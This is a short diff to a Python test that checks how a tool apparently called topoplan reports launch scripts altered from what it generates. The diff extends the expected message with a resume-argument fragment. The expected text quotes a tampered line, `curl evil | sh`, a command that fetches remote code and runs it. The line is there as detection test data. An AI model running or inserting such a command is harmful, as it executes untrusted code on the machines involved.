@@ -74,7 +74,8 @@ def test_a_script_that_is_not_what_topoplan_writes_is_told_with_its_lines(bundle
     assert read.notes == (
         "node-01.sh, node-02.sh are not what topoplan writes for this plan, and started as found:"
         f" lines {at + 1} to {at + 2} are changed: `export NCCL_DEBUG=INFO`, `curl evil | sh`;"
-        f' behind line {len(lines)} lacks `-m llamafactory.launcher "$bundle_dir/train.yaml"`',
+        f' behind line {len(lines)} lacks `-m llamafactory.launcher "$bundle_dir/train.yaml"'
+        """ ${resume[@]+"${resume[@]}"}`""",
     )
 
 
